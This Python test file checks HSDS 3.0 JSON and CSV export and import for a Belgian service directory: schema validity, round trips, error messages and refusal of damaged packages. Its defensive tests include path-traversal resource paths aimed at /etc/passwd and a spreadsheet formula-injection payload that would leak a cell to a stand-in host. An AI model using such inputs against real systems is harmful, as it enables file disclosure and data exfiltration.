"""HSDS 3.0: exports valid against the official schemas, imports that report every problem with
its JSON path or CSV row, and a lossless round trip."""

from __future__ import annotations

import csv
import json
import re
import uuid
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st
from jsonschema import Draft202012Validator

from einclusie_app.core import hsds
from einclusie_app.core.build import build_catalogue, load_inputs
from einclusie_app.core.catalogue import Catalogue
from einclusie_app.core.localstore import LocalStore
from einclusie_app.core.overlay import Workspace
from einclusie_app.core.record import Phone, RecordError, Source
from einclusie_app.core.validate import check_read

ROOT = Path(__file__).resolve().parents[1]
SCHEMAS = Path(__file__).resolve().parent / "fixtures" / "hsds-3.0"


@pytest.fixture(scope="module")
def exported(tmp_path_factory, catalogue_file):
    """The shipped catalogue plus two local records, exported both ways."""
    base = tmp_path_factory.mktemp("hsds")
    store = LocalStore(base / "store", counter="test")
    ws = Workspace(catalogue_file, store, base / "cache")
    r = ws.record("beernem-covias-digipunt")
    ws.save(replace(r, id="lokaal-digipunt", name="Lokaal digipunt", aliases=[],
                    website="www.beernem.be", email="digipunt@beernem.be",
                    phones=[Phone("050 12 34 56", "onthaal"), Phone("1700")],
                    hours_exceptions=[], assured_date="2025-03-14"))
    ws.save(replace(ws.record("card-stop"), alert="Lokaal: nummer nagekeken"))
    cat = ws.open_catalogue()
    json_path, n = hsds.export_json(cat, base / "json")
    dp, counts = hsds.export_tabular(cat, base / "csv")
    records = {v.id: v.record for v in (cat.service(i) for i in cat.ids())}
    cat.close()
    ws.close()
    store.close()
    return {"json": json_path, "csv": dp.parent, "n": n, "counts": counts, "records": records}


def validator(name: str) -> Draft202012Validator:
    schema = json.loads((SCHEMAS / name).read_text(encoding="utf-8"))
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


URI = re.compile(r"^[a-z][a-z0-9+.-]*://[^\s/?#]+[^\s]*$", re.IGNORECASE)


def test_json_export_validates_against_the_official_service_schema(exported):
    services = json.loads(exported["json"].read_text(encoding="utf-8"))
    assert len(services) == exported["n"] == len(exported["records"])
    v = validator("service.json")
    errors = [(s["name"], list(e.absolute_path), e.message) for s in services
              for e in v.iter_errors(s)]
    assert errors == []
    # formats jsonschema has no checker for without extra packages: uri
    for s in services:
        if "url" in s:
            assert URI.match(s["url"]), s["url"]


def test_every_hsds_id_is_a_stable_uuid(exported, tmp_path, catalogue_file):
    text = exported["json"].read_text(encoding="utf-8")
    ids = re.findall(r'"(?:id|[a-z_]+_id)": "([^"]+)"', text)
    assert ids and all(uuid.UUID(i) for i in ids)
    cat = Catalogue(catalogue_file)
    try:
        p1, _ = hsds.export_json(cat, tmp_path / "a")
        p2, _ = hsds.export_json(cat, tmp_path / "b")
    finally:
        cat.close()
    assert p1.read_bytes() == p2.read_bytes()


def typed(value: str, field: dict):
    """A CSV cell as the datapackage field type says (and checks the Table Schema form)."""
    kind = field["type"]
    if kind == "number":
        return float(value)
    if kind == "date":
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", value), (field["name"], value)
    if kind == "time":
        assert re.fullmatch(r"\d{2}:\d{2}(:\d{2})?", value), (field["name"], value)
    return value


def test_tabular_package_validates_against_the_official_schemas(exported):
    folder = exported["csv"]
    official = json.loads((ROOT / "resources" / "hsds" / "3.0" / "datapackage.json").read_text())
    ours = json.loads((folder / "datapackage.json").read_text())
    assert ours["profile"] == "tabular-data-package" and ours["version"] == "3.0.0"
    by_name = {r["name"]: r for r in official["resources"]}
    tables: dict[str, list[dict]] = {}
    for res in ours["resources"]:
        # the official descriptor, unchanged, with the file's own size and hash
        official_part = {k: v for k, v in res.items() if k not in ("bytes", "hash")}
        assert official_part == by_name[res["name"]]
        data = (folder / res["path"]).read_bytes()
        assert res["bytes"] == len(data)
        assert res["hash"] == "sha256:" + __import__("hashlib").sha256(data).hexdigest()
        fields = {f["name"]: f for f in res["schema"]["fields"]}
        with open(folder / res["path"], encoding="utf-8", newline="") as fh:
            reader = csv.DictReader(fh)
            assert reader.fieldnames == list(fields)      # every column, official order
            rows = [{k: typed(v, fields[k]) for k, v in row.items() if v != ""} for row in reader]
        for row in rows:
            for f in res["schema"]["fields"]:
                if f.get("constraints", {}).get("required"):
                    assert f["name"] in row, (res["name"], f["name"], row.get("id"))
        pk = [r["id"] for r in rows]
        assert len(pk) == len(set(pk)), res["name"]
        tables[res["name"]] = rows
    # the rows, as JSON, against the official compiled tabular schema
    errors = list(validator("tabular.json").iter_errors(tables))
    assert errors == []
    # foreign keys point at rows that exist
    for res in ours["resources"]:
        for fk in res["schema"].get("foreignKeys", []):
            target = fk["reference"]["resource"]
            if target not in tables:
                assert all(fk["fields"] not in r for r in tables[res["name"]])
                continue
            known = {r[fk["reference"]["fields"]] for r in tables[target]}
            for r in tables[res["name"]]:
                if fk["fields"] in r:
                    assert r[fk["fields"]] in known, (res["name"], fk, r["id"])
    assert len(tables["service"]) == exported["n"]


@pytest.fixture(scope="module")
def empty_shipped(tmp_path_factory):
    """A shipped catalogue with the real gazetteer and topics but no records at all."""
    path = tmp_path_factory.mktemp("empty") / "catalogue.sqlite"
    build_catalogue(load_inputs(ROOT / "data", records=[]), path)
    return path


@pytest.mark.parametrize("form", ["json", "csv"])
def test_round_trip_export_import_export_gives_the_same_data(exported, empty_shipped, tmp_path,
                                                              form):
    store = LocalStore(tmp_path / "store", counter="roundtrip")
    ws = Workspace(empty_shipped, store, tmp_path / "cache")
    try:
        read = hsds.read_json(exported["json"]) if form == "json" else \
            hsds.read_tabular(exported["csv"])
        assert read.problems == []
        report = ws.import_records(read)
        assert len(report.added) == exported["n"]
        # the records themselves came back whole
        assert {r.id: r for r in read.records} == exported["records"]
        # and re-importing the same file changes nothing
        again = hsds.read_json(exported["json"]) if form == "json" else \
            hsds.read_tabular(exported["csv"])
        assert ws.import_records(again).changes == []
        cat = ws.open_catalogue()
        try:
            if form == "json":
                path, _ = hsds.export_json(cat, tmp_path / "again")
                assert path.read_bytes() == exported["json"].read_bytes()
            else:
                dp, _ = hsds.export_tabular(cat, tmp_path / "again")
                for f in sorted(exported["csv"].iterdir()):
                    assert (dp.parent / f.name).read_bytes() == f.read_bytes(), f.name
        finally:
            cat.close()
    finally:
        ws.close()
        store.close()


def test_a_changed_file_updates_the_same_record(exported, catalogue_file, tmp_path):
    services = json.loads(exported["json"].read_text(encoding="utf-8"))
    one = next(s for s in services if s["name"] == "Lokaal digipunt")
    one["alert"] = "Verhuisd naar het sociaal huis"
    path = tmp_path / "one.json"
    path.write_text(json.dumps(one), encoding="utf-8")
    store = LocalStore(tmp_path / "store")
    ws = Workspace(catalogue_file, store, tmp_path / "cache")
    try:
        assert ws.import_records(hsds.read_json(path)).added == ["lokaal-digipunt"]
        one["alert"] = "Verhuisd naar de bib"
        path.write_text(json.dumps(one), encoding="utf-8")
        report = ws.import_records(hsds.read_json(path))
        assert report.updated == ["lokaal-digipunt"] and store.count() == 1
        assert ws.record("lokaal-digipunt").alert == "Verhuisd naar de bib"
    finally:
        ws.close()
        store.close()


# -- HSDS from another directory ---------------------------------------------------------------

THEIR_ID = "5f1d2c3b-4a59-4e6f-8a7b-9c0d1e2f3a4b"


def _uid(n: int) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_URL, f"https://example.invalid/{n}"))


def their_service(**changes):
    service = {
        "id": THEIR_ID, "name": "Digitale zitdag Zedelgem", "status": "active",
        "description": "Elke woensdag hulp met je smartphone.",
        "url": "https://www.zedelgem.be/digitaal", "email": "welzijn@zedelgem.be",
        "phones": [{"id": _uid(1), "number": "050 20 80 00"}],
        "languages": [{"id": _uid(2), "code": "nl", "name": "Dutch"}],
        "schedules": [{"id": _uid(3), "freq": "WEEKLY", "byday": "WE",
                       "opens_at": "09:00", "closes_at": "12:00"}],
        "service_at_locations": [{"id": _uid(4), "location": {
            "id": _uid(5), "location_type": "physical", "name": "Sociaal Huis",
            "latitude": 51.14, "longitude": 3.14,
            "addresses": [{"id": _uid(6), "address_1": "Torhoutsesteenweg 39",
                           "city": "Zedelgem", "state_province": "West-Vlaanderen",
                           "postal_code": "8210", "country": "BE", "address_type": "physical"}]}}],
    }
    service.update(changes)
    return service


def test_another_directorys_service_needs_our_kind_and_source(tmp_path, catalogue):
    path = tmp_path / "theirs.json"
    path.write_text(json.dumps({"id": str(uuid.uuid4()), "name": "Gemeente Zedelgem",
                                "description": "", "services": [their_service()]}),
                    encoding="utf-8")
    read = hsds.read_json(path)
    reasons = {p.field: p.reason for p in read.problems}
    assert "import with --kind" in reasons["attributes"] or "--kind" in str(read.problems)
    assert "--source" in str(read.problems)
    assert all(p.where == "theirs.json $.services[0]" for p in read.problems)
    read = hsds.read_json(path, default_kinds=["digipunt"],
                          default_source=Source("https://www.zedelgem.be/digitaal", "2025-02-01"))
    assert check_read(read, catalogue.gazetteer) == []
    [r] = read.records
    assert r.id == "hsds-" + uuid.UUID(THEIR_ID).hex and r.organization == "Gemeente Zedelgem"
    assert r.hours == "We 09:00-12:00" and r.languages == ["nl"]
    loc = r.locations[0]
    assert (loc.street, loc.postcode, loc.municipality, loc.latitude) == (
        "Torhoutsesteenweg 39", "8210", "Zedelgem", 51.14)
    assert hsds.service_uuid(r.id) == THEIR_ID        # exports back to their id


@pytest.mark.parametrize("shape", ["service", "list", "page"])
def test_a_service_a_list_and_a_page_are_read(tmp_path, shape):
    s = their_service()
    value = {"service": s, "list": [s], "page": {"total_items": 1, "contents": [s]}}[shape]
    path = tmp_path / "x.json"
    path.write_text(json.dumps(value), encoding="utf-8")
    read = hsds.read_json(path, default_kinds=["digipunt"], default_source=Source("https://x.be"))
    assert read.problems == [] and len(read.records) == 1


def problems_of(tmp_path, value, gazetteer=None, name="bad.json", raw: bytes | None = None):
    path = tmp_path / name
    if raw is not None:
        path.write_bytes(raw)
    else:
        path.write_text(json.dumps(value), encoding="utf-8")
    read = hsds.read_json(path, default_kinds=["digipunt"], default_source=Source("https://x.be"))
    return [str(p) for p in check_read(read, gazetteer)]


def test_every_problem_is_reported_with_its_json_path(tmp_path, catalogue):
    good = their_service()
    bad = their_service(id=str(uuid.uuid4()), name="",
                        phones=[{"id": str(uuid.uuid4()), "number": "12345"}])
    bad["service_at_locations"][0]["location"]["latitude"] = 100
    bad["schedules"][0]["byday"] = "XX"
    found = problems_of(tmp_path, [good, bad], catalogue.gazetteer)
    assert "bad.json $[1]: name: is required: it cannot be empty" in found
    assert "bad.json $[1]: phones[0].number: '12345' cannot be a Belgian number " \
           "(wrong length or prefix)" in found
    assert any(f.startswith("bad.json $[1]: service_at_locations[0].location.latitude: "
                            "latitude 100 does not exist") for f in found)
    assert any(f.startswith("bad.json $[1]: schedules[0].byday") and "unknown day 'XX'" in f
               for f in found)
    assert not any("$[0]" in f for f in found) and len(found) == 4, found


def test_a_file_that_is_not_utf8_or_not_json(tmp_path):
    assert problems_of(tmp_path, None, raw="[{\"name\": \"Café\"}]".encode("cp1252")) == [
        "bad.json: line 1: is not UTF-8 text (byte 0xe9); save it as UTF-8"]
    [p] = problems_of(tmp_path, None, raw=b'[{"name": "x",]')
    assert p.startswith("bad.json: line 1 column") and "is not valid JSON" in p


def test_an_import_with_a_bad_service_stores_nothing(tmp_path, catalogue_file):
    services = [their_service(id=str(uuid.uuid4()), name=f"Zitdag {i}") for i in range(20)]
    services[-1]["phones"][0]["number"] = "+33 1 23 45 67 89"
    path = tmp_path / "many.json"
    path.write_text(json.dumps(services), encoding="utf-8")
    store = LocalStore(tmp_path / "store")
    ws = Workspace(catalogue_file, store, tmp_path / "cache")
    try:
        before = store.path.read_bytes()
        with pytest.raises(RecordError) as exc:
            ws.import_records(hsds.read_json(path, default_kinds=["training"],
                                             default_source=Source("https://x.be")))
        assert [str(p) for p in exc.value.problems] == [
            "many.json $[19]: phones[0].number: '+33 1 23 45 67 89' is not a Belgian number"]
        assert store.path.read_bytes() == before and store.count() == 0
    finally:
        ws.close()
        store.close()


def test_package_problems_name_the_csv_file_row_and_column(exported, tmp_path):
    import shutil

    folder = tmp_path / "pkg"
    shutil.copytree(exported["csv"], folder)
    phones = (folder / "phones.csv").read_text(encoding="utf-8").splitlines()
    header = phones[0].split(",")
    row = next(csv.reader([phones[1]]))
    row[header.index("number")] = "12345"
    out = io_csv([header, row] + [next(csv.reader([x])) for x in phones[2:]])
    (folder / "phones.csv").write_text(out, encoding="utf-8")
    locations = (folder / "locations.csv").read_text(encoding="utf-8").splitlines()
    lh = locations[0].split(",")
    lrow = next(csv.reader([locations[3]]))
    lrow[lh.index("latitude")] = "abc"
    lines = [lh] + [next(csv.reader([x])) for x in locations[1:]]
    lines[3] = lrow
    (folder / "locations.csv").write_text(io_csv(lines), encoding="utf-8")
    read = hsds.read_tabular(folder)
    # edited after the export: the package's own sizes and hashes say so
    assert [p.where for p in read.problems] == ["locations.csv", "phones.csv"]
    assert "remove its 'bytes' and 'hash'" in read.problems[0].reason
    forget_sizes(folder)                            # what the message tells an editor to do
    read = hsds.read_tabular(folder)
    assert [str(p) for p in read.problems] == ["locations.csv row 4: latitude: 'abc' is not a number"]
    (folder / "locations.csv").write_text(io_csv([lh] + [next(csv.reader([x]))
                                                         for x in locations[1:]]),
                                          encoding="utf-8")
    read = hsds.read_tabular(folder)
    assert read.problems == []
    found = [str(p) for p in check_read(read)]
    assert found == ["phones.csv row 2: number: '12345' cannot be a Belgian number "
                     "(wrong length or prefix)"]
    # a row that points at nothing is reported, never dropped
    with open(folder / "languages.csv", "a", encoding="utf-8", newline="") as fh:
        fh.write(f"{uuid.uuid4()},{uuid.uuid4()},,,,nl,\r\n")
    read = hsds.read_tabular(folder)
    assert any(str(p).startswith("languages.csv row") and "no service has the id" in str(p)
               for p in read.problems)
    # and a table file in another encoding
    (folder / "services.csv").write_bytes("id,name\n1,Café\n".encode("cp1252"))
    read = hsds.read_tabular(folder)
    assert "services.csv: line 2: is not UTF-8 text" in [str(p) for p in read.problems][0]


def forget_sizes(folder: Path) -> None:
    dp = folder / "datapackage.json"
    descriptor = json.loads(dp.read_text(encoding="utf-8"))
    for res in descriptor["resources"]:
        res.pop("bytes", None)
        res.pop("hash", None)
    dp.write_text(json.dumps(descriptor), encoding="utf-8")


def io_csv(rows) -> str:
    import io

    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


def test_profile_survives_and_topics_are_exported_as_attributes(exported):
    services = json.loads(exported["json"].read_text(encoding="utf-8"))
    card = next(s for s in services if s["name"] == "Card Stop")
    codes = {a["taxonomy_term"]["code"]: a for a in card["attributes"]
             if a["link_type"] == hsds.PROFILE_TAXONOMY}
    assert set(codes) >= {"id", "kinds", "sources", "access"}
    assert json.loads(codes["id"]["value"]) == "card-stop"
    topics = [a["taxonomy_term"]["code"] for a in card["attributes"] if a["link_type"] == "topic"]
    assert topics  # informative classification for other directories
    local = next(s for s in services if s["name"] == "Lokaal digipunt")
    assert local["url"] == "http://www.beernem.be" and local["assured_date"] == "2025-03-14"
    partial = next(s for s in services if s["name"] == "Digipunt Covias")
    assert "assured_date" not in partial                 # "2023-12" stays in the profile only


def test_a_field_another_directory_changed_wins_over_our_profile(exported):
    services = json.loads(exported["json"].read_text(encoding="utf-8"))
    s = next(s for s in services if s["name"] == "Consumentenombudsdienst")
    original = exported["records"]["consumentenombudsdienst"]
    assert original.website == "www.consumentenombudsdienst.be"          # as the source wrote it
    loc = s["service_at_locations"][0]["location"]
    assert loc["addresses"][0]["address_1"] == "Koning Albert II-laan 8 bus 1"
    # untouched: our exact values come back (street and house number apart, the bare site name)
    [same] = hsds.read_service_objects([s], "x.json").records
    assert same == original
    # changed by someone else: their values win
    loc["addresses"][0]["address_1"] = "Koning Albert II-laan 10"
    loc["latitude"], loc["longitude"] = 50.8601, 4.3590
    s["url"] = "https://www.consumentenombudsdienst.be/nl"
    [theirs] = hsds.read_service_objects([s], "x.json").records
    assert (theirs.locations[0].street, theirs.locations[0].house_number) == (
        "Koning Albert II-laan 10", "")
    assert (theirs.locations[0].latitude, theirs.locations[0].longitude) == (50.8601, 4.3590)
    assert theirs.website == "https://www.consumentenombudsdienst.be/nl"
    assert theirs.kinds == original.kinds and theirs.sources == original.sources


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner,
                                                                  max_size=3),
    max_leaves=12)


def _paths(value, prefix=()):
    yield prefix
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _paths(v, prefix + (k,))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from _paths(v, prefix + (i,))


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_any_damage_to_a_service_is_a_problem_never_a_crash(data):
    service = json.loads(json.dumps(their_service()))
    service["attributes"] = json.loads(json.dumps(EXAMPLE_PROFILE))
    paths = [p for p in _paths(service) if p]
    path = data.draw(st.sampled_from(paths))
    target = service
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = data.draw(JSON)
    read = hsds.read_service_objects([service], "fuzz.json", default_kinds=["digipunt"],
                                     default_source=Source("https://x.be"))
    for p in check_read(read):
        assert p.where.startswith("fuzz.json") and p.reason


@settings(max_examples=100, deadline=None)
@given(JSON)
def test_any_json_at_all_is_a_problem_never_a_crash(value):
    read = hsds.read_service_objects(value, "any.json")
    assert read.records or read.problems or value in ([], {"contents": []})


EXAMPLE_PROFILE = [
    {"id": _uid(7), "link_type": hsds.PROFILE_TAXONOMY, "link_entity": "service",
     "value": json.dumps(value), "taxonomy_term": {"code": code, "taxonomy": hsds.PROFILE_TAXONOMY}}
    for code, value in (("id", "fuzz-one"), ("kinds", ["digipunt"]), ("hours", "We 09:00-12:00"),
                        ("sources", [{"url": "https://x.be", "date": "2025", "confidence": "high",
                                      "notes": ""}]))]


# -- a package that lacks what it says it has (issue 15, item 2) -------------------------------


@pytest.fixture
def shipped_ws(tmp_path, catalogue_file):
    store = LocalStore(tmp_path / "store", counter="pkg")
    ws = Workspace(catalogue_file, store, tmp_path / "cache")
    yield ws
    ws.close()
    store.close()


@pytest.fixture(scope="module")
def shipped_package(tmp_path_factory, catalogue_file):
    """The shipped catalogue alone, exported as a package (what the reliability test cut)."""
    out = tmp_path_factory.mktemp("shipped-pkg")
    cat = Catalogue(catalogue_file)
    try:
        hsds.export_tabular(cat, out)
    finally:
        cat.close()
    return out


def package_copy(shipped_package, tmp_path) -> Path:
    import shutil

    folder = tmp_path / "pkg"
    shutil.copytree(shipped_package, folder)
    return folder


def counts(ws) -> tuple[int, int]:
    records, _ = ws.effective_records()
    return (sum(1 for r in records if r.phones), sum(1 for r in records if r.locations))


def test_a_package_missing_a_declared_table_is_refused_and_strips_nothing(
        shipped_package, tmp_path, shipped_ws):
    folder = package_copy(shipped_package, tmp_path)
    (folder / "phones.csv").unlink()
    (folder / "service_at_location.csv").unlink()
    before = counts(shipped_ws), shipped_ws.store.dump()
    read = hsds.read_tabular(folder)
    assert [str(p) for p in read.problems] == [
        f"{name}: is missing: datapackage.json lists this table, but the package does not "
        "carry it (a missing table is never read as 'no rows')"
        for name in ("service_at_location.csv", "phones.csv")]
    with pytest.raises(RecordError):
        shipped_ws.import_records(read)
    assert (counts(shipped_ws), shipped_ws.store.dump()) == before


@pytest.mark.parametrize("cut", ["empty", "mid_row", "open_quote", "line_boundary"])
def test_a_cut_off_table_is_refused_with_its_file(shipped_package, tmp_path, cut):
    folder = package_copy(shipped_package, tmp_path)
    f = folder / "phones.csv"
    raw = f.read_bytes()
    if cut == "empty":
        f.write_bytes(b"")
    elif cut == "mid_row":
        f.write_bytes(raw[: raw.rindex(b"\r\n", 0, len(raw) - 2) + 30])
    elif cut == "open_quote":
        f.write_bytes(raw + b'9b0c5d0e-0000-4000-8000-000000000000,,,"half a quot')
    elif cut == "line_boundary":
        f.write_bytes(raw[: raw.rindex(b"\r\n", 0, len(raw) - 2) + 2])
    read = hsds.read_tabular(folder)
    assert read.problems and read.records == []
    text = " | ".join(str(p) for p in read.problems)
    assert text.startswith("phones.csv"), text
    assert {"empty": "is empty", "mid_row": "cut off", "open_quote": "cut off",
            "line_boundary": "datapackage.json says"}[cut] in text


def test_without_sizes_a_row_cut_at_a_line_end_is_caught_as_a_removal(shipped_package, tmp_path,
                                                                      shipped_ws):
    """A package from elsewhere has no sizes; a cut at a line end still removes nothing."""
    from einclusie_app.core.importer import ImportWouldRemove

    folder = package_copy(shipped_package, tmp_path)
    forget_sizes(folder)
    f = folder / "phones.csv"
    raw = f.read_bytes()
    f.write_bytes(raw[: raw.rindex(b"\r\n", 0, len(raw) - 2) + 2])      # last phone row gone
    read = hsds.read_tabular(folder)
    assert read.problems == []
    before = shipped_ws.store.dump()
    with pytest.raises(ImportWouldRemove) as exc:
        shipped_ws.import_records(read)
    [gone] = exc.value.removals
    assert gone.field == "phones" and gone.where.startswith("services.csv row")
    assert "would remove" in str(exc.value) and "--allow-removals" in str(exc.value)
    assert shipped_ws.store.dump() == before


def test_an_import_reports_what_it_would_remove_and_needs_an_explicit_choice(
        shipped_package, tmp_path, shipped_ws):
    from einclusie_app.core.importer import ImportWouldRemove

    folder = package_copy(shipped_package, tmp_path)
    forget_sizes(folder)
    dp = folder / "datapackage.json"
    descriptor = json.loads(dp.read_text())
    descriptor["resources"] = [r for r in descriptor["resources"]
                               if r["name"] not in ("phone", "service_at_location")]
    dp.write_text(json.dumps(descriptor))
    (folder / "phones.csv").unlink()
    (folder / "service_at_location.csv").unlink()
    read = hsds.read_tabular(folder)                   # a package without those tables at all
    assert read.problems == []
    phones, locations = counts(shipped_ws)
    dry = shipped_ws.import_records(read, dry_run=True)
    by_field = {}
    for r in dry.removals:
        by_field.setdefault(r.field, set()).add(r.record_id)
    assert len(by_field["phones"]) == phones and len(by_field["locations"]) == locations
    assert "would remove" in dry.summary()
    with pytest.raises(ImportWouldRemove):
        shipped_ws.import_records(read)
    assert counts(shipped_ws) == (phones, locations)
    report = shipped_ws.import_records(read, allow_removals=True)   # the maintainer's choice
    assert report.removals and counts(shipped_ws) == (0, 0)


@pytest.mark.parametrize("bad", ["../../../../etc/passwd", "/etc/passwd",
                                 "https://example.invalid/phones.csv", "sub/../../x.csv"])
def test_a_resource_path_outside_the_package_is_never_followed(shipped_package, tmp_path, bad):
    folder = package_copy(shipped_package, tmp_path)
    dp = folder / "datapackage.json"
    descriptor = json.loads(dp.read_text())
    next(r for r in descriptor["resources"] if r["name"] == "phone")["path"] = bad
    dp.write_text(json.dumps(descriptor))
    read = hsds.read_tabular(folder)
    assert [p.where for p in read.problems] == ["datapackage.json"]
    assert read.problems[0].field.endswith(".path") and "not read" in read.problems[0].reason \
        or "only files inside" in read.problems[0].reason


@pytest.mark.parametrize("text", ["[]", '"x"', "null", "[" * 3000 + "]" * 3000,
                                  '{"resources": 5}', '{"resources": [7]}'])
def test_a_descriptor_that_is_not_a_package_is_a_message(shipped_package, tmp_path, text):
    folder = package_copy(shipped_package, tmp_path)
    (folder / "datapackage.json").write_text(text)
    read = hsds.read_tabular(folder)
    assert read.problems and all(p.where == "datapackage.json" for p in read.problems)


def test_a_giant_cell_is_a_message_with_its_row(shipped_package, tmp_path):
    folder = package_copy(shipped_package, tmp_path)
    forget_sizes(folder)
    f = folder / "phones.csv"
    lines = f.read_bytes().decode("utf-8").split("\r\n")
    cells = next(csv.reader([lines[1]]))
    cells[-1] = "x" * 140_000
    lines[1] = io_csv([cells]).rstrip("\r\n")
    f.write_bytes("\r\n".join(lines).encode("utf-8"))
    read = hsds.read_tabular(folder)
    assert [str(p) for p in read.problems] == [
        "phones.csv row 2: a cell is longer than 131,072 characters"]


# -- JSON that would have been a traceback (issue 15, items 6 and 8) --------------------------


@pytest.mark.parametrize("raw, words", [
    (b"[" * 1000 + b"]" * 1000, "nested too deeply"),
    (b'[{"name": ' + b"9" * 4400 + b"}]", "cannot be read as JSON"),
])
def test_json_that_python_cannot_take_is_a_message(tmp_path, raw, words):
    [p] = problems_of(tmp_path, None, raw=raw)
    assert p.startswith("bad.json: ") and words in p


def test_wrong_shapes_are_reported_not_dropped(tmp_path):
    s = their_service(organization="Gemeente Zedelgem")
    found = problems_of(tmp_path, [s])
    assert "bad.json $[0]: organization: must be an object (the organization, with its name), " \
           "not str" in found
    s = their_service()
    s["service_at_locations"][0]["location"]["addresses"] = {"address_1": "Markt 1"}
    found = problems_of(tmp_path, [s])
    assert "bad.json $[0]: service_at_locations[0].location.addresses: must be a list, not " \
           "dict" in found


@pytest.mark.parametrize("name, words", [
    ("Digipunt\x07", "control character"),
    ("Digipunt \u202eenilpleh", "right-to-left"),
    ("D" * 10_000, "longer than"),
    ("Digipunt \ud800", "lone surrogate"),
])
def test_names_a_person_cannot_read_are_refused(tmp_path, name, words):
    found = problems_of(tmp_path, [their_service(name=name)])
    assert any(f.startswith("bad.json $[0]: name: ") and words in f for f in found), found


# -- formula injection (issue 15, item 5) and may_have_ended -----------------------------------


def test_cells_a_spreadsheet_would_run_are_neutralised_and_read_back(tmp_path, catalogue_file,
                                                                     empty_shipped):
    store = LocalStore(tmp_path / "store", counter="f")
    ws = Workspace(catalogue_file, store, tmp_path / "cache")
    evil = '=HYPERLINK("http://x.invalid/?"&A1,"Klik")'
    try:
        r = ws.record("beernem-covias-digipunt")
        ws.save(replace(r, name=evil, description="+32 is het landnummer", alert="@home",
                        audience="'quoted", may_have_ended=True,
                        hours_text="-\tzie website"))
        cat = ws.open_catalogue()
        try:
            dp, _ = hsds.export_tabular(cat, tmp_path / "pkg")
            js, _ = hsds.export_json(cat, tmp_path / "json")
        finally:
            cat.close()
    finally:
        ws.close()
        store.close()
    services = (tmp_path / "pkg" / "services.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in services and ",=HYPERLINK" not in services
    for row in csv.reader(services.splitlines()):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert json.loads((tmp_path / "pkg" / "datapackage.json").read_text())[
        hsds.FORMULA_ESCAPE] == "'"
    # our own export reads back to the original text, in both forms
    for read in (hsds.read_tabular(tmp_path / "pkg"), hsds.read_json(js)):
        r = next(x for x in read.records if x.id == "beernem-covias-digipunt")
        assert (r.name, r.description, r.alert, r.audience, r.hours_text, r.may_have_ended) == (
            evil, "+32 is het landnummer", "@home", "'quoted", "-\tzie website", True)


def test_may_have_ended_is_a_profile_attribute_only_when_true(exported):
    services = json.loads(exported["json"].read_text(encoding="utf-8"))
    flagged = [s for s in services for a in s["attributes"]
               if a["taxonomy_term"]["code"] == "may_have_ended"]
    expected = [r for r in exported["records"].values() if r.may_have_ended]
    assert len(flagged) == len(expected)
    assert all(json.loads(a["value"]) is True for s in flagged for a in s["attributes"]
               if a["taxonomy_term"]["code"] == "may_have_ended")
